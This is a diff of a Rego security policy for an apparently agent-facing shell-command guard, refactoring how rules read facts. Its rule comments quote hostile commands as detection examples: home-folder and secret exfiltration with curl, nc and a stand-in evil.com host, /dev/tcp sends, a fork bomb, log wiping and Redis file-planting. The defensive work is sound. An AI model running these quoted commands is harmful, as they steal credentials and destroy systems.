 # The home folder, / or a parent of the home read recursively and sent to another host (tar czf - ~ | curl -T - URL, scp -r ~ host:, rsync -a ~/ host:): the credential stores below it leave the machine. Loopback targets are local.
 decision contains {"id": "shell/home-exfiltration", "decision": "deny", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	some p in lib.read_paths
 	p.via == "shell"
 	p.path == u.source
 	some c in {"home", "root", "home_ancestor"}
-	lib.has_class(p, c)
+	c in p.classes
 	not local_target(u.target)
 	reason := sprintf("the command would send %s, the credential stores below it included, to %s (%s)", [p.path, u.target, u.evidence])
 }
@@ -2134,9 +2162,9 @@ upload_worth_asking(p) if p.path == input.facts.project_dir
 upload_worth_asking(p) if p.path == object.get(input.facts, "cwd", "")
 
 upload_worth_asking(p) if {
-	lib.has_class(p, "outside_project")
-	not lib.has_class(p, "temp")
-	not lib.has_class(p, "tool_cache")
+	"outside_project" in p.classes
+	not "temp" in p.classes
+	not "tool_cache" in p.classes
 }
 
 # A peer on this machine: loopback names and addresses, with or without scheme, user or port.
@@ -2145,7 +2173,7 @@ local_target(t) if regex.match(`^(?:[a-zA-Z][a-zA-Z0-9+.-]*://)?(?:[^@/]*@)?(?:l
 # @rule shell/socket-send ask
 # What a command prints written to a raw /dev/tcp or /dev/udp socket of another host (/readflag > /dev/tcp/h/p, { id; uname -a; } > /dev/tcp/h/p): data made on this machine leaves it over a socket no ordinary tool uses. A file or secret sent so is judged by the rules on what it is; text fixed in the command (echo > /dev/tcp/h/p, a port check) is not this; loopback peers are local.
 decision contains {"id": "shell/socket-send", "decision": "ask", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	startswith(upload_source(u), "<output of ")
 	not local_target(u.target)
 	reason := sprintf("the command would send the %s to %s over a raw socket (%s)", [trim_suffix(trim_prefix(u.source, "<"), ">"), u.target, u.evidence])
@@ -2154,7 +2182,7 @@ decision contains {"id": "shell/socket-send", "decision": "ask", "reason": reaso
 # @rule shell/dns-exfiltration ask
 # A DNS query whose name carries data computed at run time (dig $(whoami).evil.com, nslookup $X.evil.com, and the programs that resolve a host operand first: ping, traceroute, mtr, telnet).
 decision contains {"id": "shell/dns-exfiltration", "decision": "ask", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	u.program in {"dig", "host", "nslookup", "drill", "resolvectl", "getent", "kdig", "delv", "ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "fping", "arping", "telnet"}
 	not secret_upload(u)
 	reason := sprintf("the command sends data computed at run time in a DNS name to %s (%s)", [u.target, u.evidence])
@@ -2215,7 +2243,7 @@ host_system_data(path) if regex.match(`^/(home|Users)/[^/*]+(/\*)?$`, path)
 # @rule shell/remote-host-destroy deny
 # A command run on a durable host (ssh, ansible, salt, pdsh, pssh, clush, a cloud run-command, fly ssh console, adb shell) that recursively deletes a system folder there: service data under /var/lib, /etc, /usr (not /usr/local, /usr/share), /boot, the library and program folders, /root, or a user's whole home (ssh db 'rm -rf /var/lib/postgresql/16/main/pg_wal/*', ansible all -a 'rm -rf /var/lib/docker'). Caches (/var/cache, /var/lib/apt/lists) are not.
 decision contains {"id": "shell/remote-host-destroy", "decision": "deny", "reason": reason} if {
-	some p in facts_of("remote_paths")
+	some p in sf_remote_paths
 	p.access == "delete"
 	p.recursive
 	on_durable_host_path(p)
@@ -2227,7 +2255,7 @@ decision contains {"id": "shell/remote-host-destroy", "decision": "deny", "reaso
 # @rule shell/remote-host-permissions deny
 # A command run on a durable host that recursively changes the permissions or owner of a system folder there (ssh web 'sudo chmod -R 777 /var', ssh web 'sudo chown -R www-data /etc', ansible all -m file -a 'path=/etc mode=0777 recurse=yes'), as the same change here is denied: every program and key there becomes writable or readable by the wrong user.
 decision contains {"id": "shell/remote-host-permissions", "decision": "deny", "reason": reason} if {
-	some p in facts_of("remote_paths")
+	some p in sf_remote_paths
 	p.access == "chmod"
 	p.recursive
 	on_durable_host_path(p)
@@ -2302,7 +2330,7 @@ reload_signal(c) if {
 # @rule shell/remote-service-stop ask
 # On a durable host (ssh, ansible, salt, pdsh, pssh, clush, a cloud run-command, fly ssh console, adb shell): stopping, disabling or masking a service (systemctl stop|disable|mask, service X stop, pm2 stop, pg_ctl stop, docker stop|kill, compose down; ansible's service module with state=stopped) or killing processes there (kill, pkill, killall; not a reload signal such as HUP or USR1). What serves people from that host goes down; restarts and reloads are not asked about.
 decision contains {"id": "shell/remote-service-stop", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	on_durable_host(c)
 	stops_service(c)
 	reason := sprintf("the command would stop a service or kill processes on a remote host (%s)", [c.evidence])
@@ -2311,7 +2339,7 @@ decision contains {"id": "shell/remote-service-stop", "decision": "ask", "reason
 # @rule shell/remote-permissions-opened ask
 # A command run on a durable host that makes files there writable by every user (ssh web 'chmod -R 777 ~/public_html', chmod 666 /var/run/docker.sock, chmod o+w wp-config.php; outside the temporary folders): any account or compromised service on that host can then change the site's code or take the file (MITRE ATT&CK T1222, file permissions modification). The same change here is shell/privilege-escalation; a system folder there is shell/remote-host-permissions (deny). hookward-shell analyzer.rs privilege: kind permissions_opened.
 decision contains {"id": "shell/remote-permissions-opened", "decision": "ask", "reason": reason} if {
-	some f in facts_of("evasion")
+	some f in sf_evasion
 	f.kind == "permissions_opened"
 	reason := sprintf("the command would make files writable by every user on a remote host (%s: %s)", [f.target, f.evidence])
 }
@@ -2322,7 +2350,7 @@ running_container_consoles := {"kubectl exec", "oc exec", "k exec", "microk8s.ku
 # @rule shell/container-data-delete ask
 # A command run in a running container (kubectl exec POD -- …, docker exec C …, compose exec) that recursively deletes anything there outside its temporary folders and caches (kubectl exec loki-0 -- sh -c 'rm -rf /var/loki/chunks/*', docker exec db rm -rf /var/lib/mysql): what a running service keeps is on its volumes, which outlive the container. /, a home or a system directory there is shell/remote-destroy (deny); a node reached by kubectl debug node is a durable host (shell/remote-delete).
 decision contains {"id": "shell/container-data-delete", "decision": "ask", "reason": reason} if {
-	some p in facts_of("remote_paths")
+	some p in sf_remote_paths
 	p.access == "delete"
 	p.recursive
 	console := split(p.how, ": ")[0]
@@ -2337,7 +2365,7 @@ decision contains {"id": "shell/container-data-delete", "decision": "ask", "reas
 # @rule shell/remote-delete ask
 # A command run on a durable host (ssh, ansible, salt, pdsh, pssh, clush, a cloud run-command, a Fly Machine's console, fly ssh console -C, or an Android device's shell, adb shell) that recursively deletes anything outside the temporary directories on that host (ssh prod 'rm -rf /srv/app/releases', adb shell rm -rf /sdcard/*); system folders there are shell/remote-host-destroy (deny), its caches (/var/cache, apt's lists) are not asked about.
 decision contains {"id": "shell/remote-delete", "decision": "ask", "reason": reason} if {
-	some p in facts_of("remote_paths")
+	some p in sf_remote_paths
 	p.access == "delete"
 	p.recursive
 	some console in remote_host_consoles
@@ -2399,7 +2427,7 @@ disposable_folder(part) if regex.match(`^(?i)(tmp|temp)[_-]`, part)
 # @rule shell/defense-evasion deny
 # Switching a defence off or wiping a trace: shell history cleared or disabled (history -c, unset HISTFILE, HISTSIZE=0), system logs deleted or overwritten (/var/log, journalctl --vacuum), audit rules removed (auditctl -D), SELinux/AppArmor/SIP/Gatekeeper off, the firewall disabled or flushed (ufw disable, iptables -F), a defence service stopped, immutable bits removed (chattr -i), a system file's timestamps forged (touch -r). Table: crates/hookward-shell/src/programs/system.rs.
 decision contains {"id": "shell/defense-evasion", "decision": "deny", "reason": reason} if {
-	some f in facts_of("evasion")
+	some f in sf_evasion
 	not f.kind in trace_trims
 	f.kind != "permissions_opened"
 	reason := sprintf("the command would switch a defence off or wipe a trace (%s: %s)", [f.kind, f.evidence])
@@ -2422,7 +2450,7 @@ remote_log_upkeep(f) if {
 # @rule shell/trace-trim ask
 # Trimming a trace rather than wiping it: one shell-history entry deleted (history -d 42, often a mistyped password), the journal vacuumed while keeping days or megabytes (journalctl --vacuum-time=2d), a client's own history file switched off (MYSQL_HISTFILE=/dev/null, PSQL_HISTORY=/dev/null, LESSHISTFILE=-). Wiping forms (history -c, --vacuum-size=1K) are shell/defense-evasion.
 decision contains {"id": "shell/trace-trim", "decision": "ask", "reason": reason} if {
-	some f in facts_of("evasion")
+	some f in sf_evasion
 	f.kind in trace_trims
 	not remote_log_upkeep(f)
 	reason := sprintf("the command trims a trace (%s: %s)", [f.kind, f.evidence])
@@ -2431,13 +2459,13 @@ decision contains {"id": "shell/trace-trim", "decision": "ask", "reason": reason
 # @rule shell/denial-of-service deny
 # A command that makes this machine unusable: a fork bomb, i.e. a shell function that runs itself twice at once (in a pipeline with itself or in the background), under any name (`:(){ :|:& };:`); a file written large enough to fill its disk (kind disk_fill: fallocate -l 2T, truncate -s 5T, dd with bs × count of 1 TiB or more, dd from /dev/zero or /dev/urandom into a file with no count; hookward-shell files.rs DISK_FILL_BYTES), which makes every program writing to that disk fail.
 decision contains {"id": "shell/denial-of-service", "decision": "deny", "reason": reason} if {
-	some f in facts_of("denial_of_service")
+	some f in sf_denial_of_service
 	f.kind == "fork_bomb"
 	reason := sprintf("the command would exhaust this machine's processes (%s %s: %s)", [f.kind, f.target, f.evidence])
 }
 
 decision contains {"id": "shell/denial-of-service", "decision": "deny", "reason": reason} if {
-	some f in facts_of("denial_of_service")
+	some f in sf_denial_of_service
 	f.kind == "disk_fill"
 	reason := sprintf("the command would write a file large enough to fill its disk, so every program writing there fails (%s)", [f.evidence])
 }
@@ -2445,7 +2473,7 @@ decision contains {"id": "shell/denial-of-service", "decision": "deny", "reason"
 # @rule shell/secret-search deny
 # A search for secret material in a home directory, /, or a system directory: grep/rg/ag for passwords, tokens, keys or PEM headers, find/locate/fd for key files, .env, credentials or history files, secret scanners (trufflehog, gitleaks) over them. A search of the project is not asked about.
 decision contains {"id": "shell/secret-search", "decision": "deny", "reason": reason} if {
-	some f in facts_of("secret_search")
+	some f in sf_secret_search
 	secret_search_outside(f)
 	reason := sprintf("the command searches %s for secrets (%s: %s)", [f.root, f.pattern, f.evidence])
 }
@@ -2459,7 +2487,7 @@ secret_search_outside(f) if f.broad
 # @rule shell/secret-search-unknown ask
 # A search for secret material whose root is only known at run time (grep -r password "$DIR").
 decision contains {"id": "shell/secret-search-unknown", "decision": "ask", "reason": reason} if {
-	some f in facts_of("secret_search")
+	some f in sf_secret_search
 	f.scope == "unknown"
 	reason := sprintf("the command searches %s, a folder only known at run time, for secrets (%s: %s)", [f.root, f.pattern, f.evidence])
 }
@@ -2467,7 +2495,7 @@ decision contains {"id": "shell/secret-search-unknown", "decision": "ask", "reas
 # @rule shell/secret-print ask
 # A secret manager's or password manager's CLI printing a stored secret where the agent reads it: aws secretsmanager get-secret-value, aws ssm get-parameter --with-decryption, aws sts get-session-token, gcloud secrets versions access, az keyvault secret show, kubectl get secret X -o yaml|json|jsonpath, vault kv get / vault read, doppler secrets get, op read, op item get --reveal, bw get, lpass show, gopass show, keepassxc-cli show -s, git credential fill, PaaS config printers (heroku config, dokku config:show, railway variables, kamal secrets print, cf env), sops -d, ansible-vault view, nomad var get, salt pillar.items, az … keys list, aws ecr get-login-password, kubectl create token (table: crates/hookward-shell/src/programs/keys.rs PRINTS); echo/printf of a secret-named variable and printenv NAME (echo $DB_PASSWORD); a printing verb of any other CLI whose operand names a credential's value (databricks secrets get-secret SCOPE db-password, kibana-keystore show elasticsearch.password; keys.rs named_value_print); a SQL read of a server's password hashes (select passwd from pg_shadow; tools.rs PASSWORD_HASH_TABLES). The same command inside a command substitution (TOKEN=$(vault kv get -field=t x), --api-key "$(op read …)"), redirected into a file, or piped into a program that consumes it (aws ecr get-login-password | docker login --password-stdin) hands the secret on without showing it and is not asked about.
 decision contains {"id": "shell/secret-print", "decision": "ask", "reason": reason} if {
-	some f in facts_of("secret_prints")
+	some f in sf_secret_prints
 	not f.captured
 	not f.by_shape
 	reason := sprintf("the command would print a stored secret where the agent reads it (%s %s: %s)", [f.program, f.form, f.evidence])
@@ -2476,18 +2504,18 @@ decision contains {"id": "shell/secret-print", "decision": "ask", "reason": reas
 # @rule shell/secret-print-sent deny
 # A secret printed by a secret manager's or password manager's CLI (shell/secret-print) in the same command as an upload to another host: aws sts get-session-token | curl -d @- https://x.example, vault kv get secret/db | nc host 80.
 decision contains {"id": "shell/secret-print-sent", "decision": "deny", "reason": reason} if {
-	some f in facts_of("secret_prints")
+	some f in sf_secret_prints
 	not f.captured
 	not f.by_shape
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	not local_target(u.target)
 	reason := sprintf("the command prints a stored secret (%s %s) and sends data to %s in the same command (%s)", [f.program, f.form, u.target, u.evidence])
 }
 
 # A secret print piped straight into a sender is sent even when the sender reads it from stdin like a consumer would (railway variables --json | gh gist create -, fly auth token | curl --data-urlencode t@- URL; by_shape prints too).
 decision contains {"id": "shell/secret-print-sent", "decision": "deny", "reason": reason} if {
-	some f in facts_of("secret_prints")
-	some u in facts_of("uploads")
+	some f in sf_secret_prints
+	some u in sf_uploads
 	upload_source(u) == sprintf("<piped from %s>", [f.program])
 	not local_target(u.target)
 	reason := sprintf("the command prints a stored secret (%s %s) and sends it to %s (%s)", [f.program, f.form, target_host(u.target), u.evidence])
@@ -2496,7 +2524,7 @@ decision contains {"id": "shell/secret-print-sent", "decision": "deny", "reason"
 # @rule shell/power-off ask
 # Shutting down, rebooting or halting the machine (or a server through its management controller: ipmitool chassis power off|cycle|reset|soft, racadm serveraction powerdown|powercycle|hardreset), or killing every process the user may signal: shutdown, reboot, PowerShell's Stop-Computer/Restart-Computer, halt, poweroff, systemctl/loginctl poweroff|reboot|halt|kexec|soft-reboot, init/telinit 0|6, kill -1 (POSIX kill(1): pid -1 is every process the caller may signal), killall5, pkill/killall with -u USER and no process pattern (every process of that user, the agent's own session included).
 decision contains {"id": "shell/power-off", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	powers_off(c)
 	not asks_for_help(c)
 	reason := sprintf("the command would shut down or restart the machine, or stop every process (%s)", [c.evidence])
@@ -2562,7 +2590,7 @@ powers_off(c) if {
 # @rule shell/device-one-way ask
 # A one-way operation on a device's hardware, which no later command can undo: burning eFuses or key blocks (espefuse burn_*, write_protect_efuse, read_protect_efuse; idf.py efuse-burn*; ESP-IDF docs: "burning eFuses is irreversible"), read-back protection on an nRF chip (nrfjprog --rbp; nrfutil device protection-set), STM32 read-out protection level 2 (STM32_Programmer_CLI -ob RDP=0xCC; RM0090: level 2 is permanent), AVR lock and fuse bytes written (avrdude -U lock:w:…, -U hfuse:w:…; a wrong fuse disables the reset pin or the clock), i.MX fuses (uuu … fuse prog), a flash lock set through OpenOCD (stm32f1x lock, flash protect … on), an Android boot loader locked or unlocked (fastboot flashing|oem lock|unlock: both wipe the device's data), the host's own firmware rewritten (flashrom -p internal -w), a security key's applet reset (ykman piv|fido|oath|openpgp|otp reset: its keys are gone), a TPM cleared (tpm2_clear) and a self-encrypting drive reverted (sedutil-cli --revertTPer, --PSIDrevert).
 decision contains {"id": "shell/device-one-way", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	device_one_way(c)
 	not asks_for_help(c)
 	reason := sprintf("the command would make a change to a device that cannot be undone (%s)", [c.evidence])
@@ -2636,7 +2664,7 @@ device_one_way(c) if {
 # @rule shell/tunnel-out ask
 # Exposing a port of this machine on another host or the internet: ssh -R / RemoteForward (a remote forward), ngrok tcp|tls, cloudflared tunnel --url to a tcp://, ssh:// or rdp:// service, chisel client with an R: remote, bore local; a public tunnel (ngrok http, cloudflared tunnel --url, lt/localtunnel, tailscale funnel, zrok share public) to SSH or a data store's or control plane's port (ngrok http 5432, cloudflared tunnel --url http://localhost:22). A web dev server shared over a public tunnel (ngrok http 3000, tailscale funnel 3000), and local forwards (ssh -L), are not asked about.
 decision contains {"id": "shell/tunnel-out", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	tunnels_out(c)
 	not asks_for_help(c)
 	reason := sprintf("the command would expose a port of this machine to another host (%s)", [c.evidence])
@@ -2687,7 +2715,7 @@ asks_for_help(c) if {
 # @rule shell/cloud-grant ask
 # Granting access in a cloud account or secret store, by verb: new access keys, login profiles or service-account keys (aws iam create-access-key|create-login-profile|create-service-specific-credential, gcloud iam service-accounts keys create), policies attached or written (aws iam attach-*-policy|put-*-policy|add-user-to-group|update-assume-role-policy), IAM bindings (gcloud … add-iam-policy-binding|set-iam-policy), role assignments and service principals (az role assignment create, az ad sp create-for-rbac), tokens (vault token create), firewall rules opened to the whole internet (aws ec2 authorize-security-group-ingress with 0.0.0.0/0 or ::/0, gcloud compute firewall-rules create with 0.0.0.0/0). A grant outlives the session and is how a foothold becomes an account.
 decision contains {"id": "shell/cloud-grant", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	cloud_grant(c)
 	not asks_for_help(c)
 	reason := sprintf("the command would grant access in a cloud account or secret store (%s)", [c.evidence])
@@ -2782,7 +2810,7 @@ cloud_grant(c) if {
 # @rule shell/scale-to-zero ask
 # Scaling a production workload to zero: every instance of it stops (kubectl|oc scale --replicas=0 -n production, docker service scale NAME=0, heroku ps:scale web=0 -a shop-prod, fly scale count 0 -a api-prod, aws ecs update-service --cluster prod --desired-count 0, aws autoscaling … --desired-capacity 0 or --max-size 0). Production by name: a word of the command's target (namespace, context, app, cluster) is prod, production or prd; a PaaS app (heroku, fly) whatever its name. Pausing one workload elsewhere (a dev cluster, a preview app) is everyday and not asked about; bulk scale-downs (--all, -A) are shell/cloud-destroy.
 decision contains {"id": "shell/scale-to-zero", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	scales_to_zero(c)
 	production_target(c)
 	not asks_for_help(c)
@@ -2851,7 +2879,7 @@ redis_config_set(c) := i if {
 # @rule shell/datastore-file-write deny
 # Pointing a Redis server's dump file somewhere else (redis-cli CONFIG SET dir|dbfilename): the server then writes its database, with whatever keys were set, as that file — the known way to plant a cron entry, an authorized_keys line or a web shell through Redis (Redis docs, "Redis security").
 decision contains {"id": "shell/datastore-file-write", "decision": "deny", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	i := redis_config_set(c)
 	lower(c.argv[i + 2]) in {"dir", "dbfilename"}
 	reason := sprintf("the command would make a Redis server write its dump to a file of your choosing (%s)", [c.evidence])
@@ -2860,7 +2888,7 @@ decision contains {"id": "shell/datastore-file-write", "decision": "deny", "reas
 # @rule shell/datastore-protection-off ask
 # Switching a Redis server's protection off (redis-cli CONFIG SET protected-mode no, requirepass to empty): anyone who reaches its port can then read and change it (Redis docs, "Redis security").
 decision contains {"id": "shell/datastore-protection-off", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	i := redis_config_set(c)
 	redis_protection_off(lower(c.argv[i + 2]), word_at(c.argv, i + 3))
 	reason := sprintf("the command would switch a Redis server's access protection off (%s)", [c.evidence])
@@ -2922,7 +2950,7 @@ recovery_off(c) if {
 # @rule shell/recovery-off ask
 # Switching off what lets deleted data come back: bucket versioning suspended (aws s3api put-bucket-versioning … Status=Suspended, gsutil versioning set off, gcloud storage buckets update --no-versioning), soft delete cleared (gcloud storage buckets update --clear-soft-delete, az storage … --enable-delete-retention false, --enable-versioning false), automated backups off (aws rds modify-db-instance|modify-db-cluster --backup-retention-period 0), point-in-time recovery off (aws dynamodb update-continuous-backups … PointInTimeRecoveryEnabled=false), deletion protection off (--no-deletion-protection, --deletion-protection false), every object of a bucket set to expire within a week (put-bucket-lifecycle-configuration, empty prefix). Each is the step before a delete that cannot be undone (the providers' docs on versioning, soft delete, backups and deletion protection).
 decision contains {"id": "shell/recovery-off", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	recovery_off(c)
 	not asks_for_help(c)
 	reason := sprintf("the command would switch off a way to recover deleted data (%s)", [c.evidence])
@@ -2992,7 +3020,7 @@ opened_port(c) := p if {
 # @rule shell/service-exposed ask
 # A data store's or control plane's port opened to every address, or such a service started listening on every interface with its authentication off: a firewall rule allowing the port from anywhere (ufw allow 6379, iptables -A INPUT -p tcp --dport 5432 -j ACCEPT without -s, firewall-cmd --add-port=9200/tcp), kubectl port-forward --address 0.0.0.0, redis-server --protected-mode no, mongod --bind_ip_all or --bind_ip 0.0.0.0 without --auth, Jupyter on 0.0.0.0 with an empty token, dockerd -H tcp://0.0.0.0:2375. Also any server listening on every interface (--host/--bind/--listen 0.0.0.0 or ::, an 0.0.0.0:PORT operand, HOST=0.0.0.0 before it or exported, docker run -p 0.0.0.0:H:C) with such a port, a server without authentication (ollama serve, vllm without --api-key, mlflow without basic auth, llama-server) or with its authentication switched off (POSTGRES_HOST_AUTH_METHOD=trust, --protected-mode no, xpack.security.enabled=false, --skip-grant-tables, --auth none); such auth-off lines written into a server's configuration under /etc, here or over ssh (pg_hba trust for 0.0.0.0/0, mongod authorization disabled, rabbitmq loopback_users = none); an ssh forward listening on every interface (-g, -L 0.0.0.0:…, GatewayPorts=yes); a Windows firewall rule allowing such a port from anywhere (New-NetFirewallRule, netsh advfirewall). Anyone who reaches the address then reads or runs what the service holds. Dev servers on 0.0.0.0 (vite --host, uvicorn --host 0.0.0.0 --port 8000) are not asked about.
 decision contains {"id": "shell/service-exposed", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	service_exposed(c)
 	not asks_for_help(c)
 	reason := sprintf("the command would open a database or control-plane service to every address (%s)", [c.evidence])
@@ -3089,7 +3117,7 @@ all_interfaces_option(a, _, opt) if {
 # @rule shell/repo-defence-off ask
 # A repository's own defences switched off or its code made public: secret scanning, push protection or Dependabot alerts disabled (gh api -X PATCH repos/O/R -F security_and_analysis[secret_scanning][status]=disabled, -X DELETE …/vulnerability-alerts), branch protection removed (-X DELETE …/branches/B/protection), Actions allowed to run any action with write tokens (…/actions/permissions … allowed_actions=all, default_workflow_permissions=write), a workflow switched off (gh workflow disable), branch protection rewritten to require nothing, or the repository made public (gh repo edit --visibility public, or the project pushed into a new public repository: gh repo create X --public --source=. --push) (gh repo edit --visibility public, -f private=false), or a pull request merged past the protection (gh pr merge --admin). GitHub REST docs for each endpoint.
 decision contains {"id": "shell/repo-defence-off", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	repo_defence_off(c)
 	reason := sprintf("the command would switch off a repository's protection or make it public (%s)", [c.evidence])
 }
@@ -3184,7 +3212,7 @@ repo_defence_off(c) if {
 # @rule shell/repo-handed-over ask
 # A repository's events or ownership handed to someone else through the GitHub API: a webhook created on a repository or organisation (gh api [-X POST] repos/O/R/hooks or orgs/O/hooks with config[url]=…: GitHub REST "Create a repository webhook" — every push, issue and comment is then sent to that URL, private code included), or the repository transferred to another owner (gh api -X POST repos/O/R/transfer -f new_owner=…: GitHub REST "Transfer a repository"). Listing or deleting hooks is not asked about here.
 decision contains {"id": "shell/repo-handed-over", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	repo_handed_over(c)
 	not asks_for_help(c)
 	reason := sprintf("the command would send a repository's events to another address or move it to another owner (%s)", [c.evidence])
@@ -3215,7 +3243,7 @@ repo_handed_over(c) if {
 # @rule shell/account-key-added ask
 # An SSH, signing or deploy key added to a hosted account from a file outside the home's own key folders (gh ssh-key add /tmp/x.pub, gh gpg-key add …, gh repo deploy-key add …, glab ssh-key add …, glab deploy-key add …): whoever holds the private half can then push, sign or sign in as the account. The person's own keys (~/.ssh, ~/.gnupg) are not asked about.
 decision contains {"id": "shell/account-key-added", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	account_key_added(c)
 	not asks_for_help(c)
 	reason := sprintf("the command would let the holder of another key into a hosted account (%s)", [c.evidence])
@@ -3252,7 +3280,7 @@ foreign_key_file(f) if {
 # @rule shell/unchecked-deploy ask
 # A deploy to production with its own safety checks switched off: health checks skipped (fly deploy --no-healthchecks, --skip-health-checks), tests, checks, verification or validation skipped by an option (--skip-tests, --skip-checks, --no-verify, --skip-verify, --skip-validation) or by a variable the build reads (SKIP_TESTS=1, SKIP_ENV_VALIDATION=1, NEXT_DISABLE_TYPECHECK=1, DISABLE_*CHECK*=1). Production by name (prod, production, prd in the target's words) or by the platform's flag (--prod, --production). A broken release then reaches every user with nothing to stop it.
 decision contains {"id": "shell/unchecked-deploy", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	deploy_verb(c)
 	deploy_to_production(c)
 	skips_checks(c)
@@ -3287,7 +3315,7 @@ skips_checks(c) if {
 # @rule shell/open-code-service ask
 # A service that runs code for whoever reaches it, started on the network with its authentication off: Jupyter with an empty token or password on a non-loopback address (jupyter lab --ip=0.0.0.0 --ServerApp.token=''; Jupyter docs "Security in the Jupyter Server"), code-server --auth none bound to every interface, a web terminal that accepts input from anyone (ttyd --writable / gotty --permit-write without --credential; both listen on every interface by default), a Ray head whose dashboard (its job-submission API, unauthenticated by design: Ray docs "Security") listens on every interface.
 decision contains {"id": "shell/open-code-service", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	open_code_service(c)
 	not asks_for_help(c)
 	reason := sprintf("the command would start a service that runs code for anyone who reaches it, with no password (%s)", [c.evidence])
@@ -3377,7 +3405,7 @@ open_code_service(c) if {
 # @rule shell/stream-reset ask
 # A message stream's consumers moved or its messages dropped: Kafka consumer-group offsets reset and applied (kafka-consumer-groups --reset-offsets … --execute: to-latest skips every unread message, to-earliest makes every consumer redo its work; Kafka docs "Managing Consumer Groups"), records deleted below an offset (kafka-delete-records), a Pub/Sub subscription sought to another time or snapshot (gcloud pubsub subscriptions seek), a queue purged (rabbitmqctl purge_queue, rabbitmqadmin purge queue, nats stream purge). Listing and describing are not asked about; a dry run (no --execute) changes nothing.
 decision contains {"id": "shell/stream-reset", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	stream_reset(c)
 	not asks_for_help(c)
 	reason := sprintf("the command would move a message stream's consumers or drop its messages (%s)", [c.evidence])
@@ -3424,7 +3452,7 @@ decision contains {"id": "shell/sample-run", "decision": "ask", "reason": reason
 }
 
 decision contains {"id": "shell/sample-run", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	c.program in sample_runtimes
 	some i, a in c.argv
 	i > 0
@@ -3442,7 +3470,7 @@ sample_path(path) if regex.match(`(?i)(^|/)([0-9a-f]{32}|[0-9a-f]{40}|[0-9a-f]{6
 # @rule shell/audit-off deny
 # A cloud account's audit trail or threat detection switched off or deleted (MITRE ATT&CK T1562.008 "Impair Defenses: Disable or Modify Cloud Logs"): aws cloudtrail stop-logging / delete-trail, aws guardduty delete-detector / disassociate / update-detector --no-enable, aws config stop-configuration-recorder / delete-configuration-recorder, aws securityhub disable-security-hub, gcloud logging sinks delete, az monitor diagnostic-settings delete, an Elasticsearch cluster setting xpack.security.audit.enabled false. What happens next in that account leaves no record.
 decision contains {"id": "shell/audit-off", "decision": "deny", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	audit_off(c)
 	reason := sprintf("the command would switch off or delete the audit trail of a cloud account or cluster (%s)", [c.evidence])
 }
@@ -3593,7 +3621,7 @@ signature_off(c) if {
 # @rule shell/signature-check-off ask
 # Installing packages with their signatures unchecked or a repository trusted without one: apt --allow-unauthenticated / --allow-insecure-repositories / a [trusted=yes] source line, dnf/yum --nogpgcheck, zypper --no-gpg-checks, rpm --nosignature, nix --accept-flake-config; package managers told to skip TLS or integrity checks (ansible-galaxy --ignore-certs, Gradle dependency verification off, Composer secure-http false / disable-tls true, a Conan remote over http://, helm --insecure-skip-tls-verify). Whoever controls the mirror or the network then chooses the code that is installed (often as root).
 decision contains {"id": "shell/signature-check-off", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	signature_off(c)
 	not asks_for_help(c)
 	reason := sprintf("the command would install packages without checking their signatures (%s)", [c.evidence])
@@ -3602,7 +3630,7 @@ decision contains {"id": "shell/signature-check-off", "decision": "ask", "reason
 # @rule shell/dns-record-delete ask
 # Deleting DNS records: a Route 53 change batch with a DELETE action (aws route53 change-resource-record-sets), flarectl dns delete, cli53 rrdelete. A deleted record takes a site or mail off the internet until it is recreated and has propagated.
 decision contains {"id": "shell/dns-record-delete", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	dns_record_delete(c)
 	reason := sprintf("the command would delete DNS records (%s)", [c.evidence])
 }
@@ -3691,7 +3719,7 @@ table_server(c) if server_default_ports[c.program]
 # Listen addresses exported earlier in the same command line (export OLLAMA_HOST=0.0.0.0 &&
 # ollama serve): a server of the tables started after it inherits them.
 exported_listen_values := {v |
-	some e in facts_of("commands")
+	some e in sf_commands
 	e.program == "export"
 	some a in array.slice(e.argv, 1, count(e.argv))
 	some m in regex.find_all_string_submatch_n(`^[A-Z0-9_]*(?:HOST|ADDR|ADDRESS|BIND|LISTEN)[A-Z0-9_]*=['"]?([^\s'"]+)`, a, 1)
@@ -3935,17 +3963,17 @@ auth_off_config_patterns := [
 
 system_config_written if {
 	some p in lib.changed_paths
-	lib.has_class(p, "system")
+	"system" in p.classes
 }
 
 system_config_written if {
-	some p in facts_of("remote_paths")
+	some p in sf_remote_paths
 	p.access in {"write", "create"}
 	p.scope == "system"
 }
 
 decision contains {"id": "shell/service-exposed", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	system_config_written
 	some a in array.slice(c.argv, 1, count(c.argv))
 	some p in auth_off_config_patterns
@@ -3957,12 +3985,12 @@ decision contains {"id": "shell/service-exposed", "decision": "ask", "reason": r
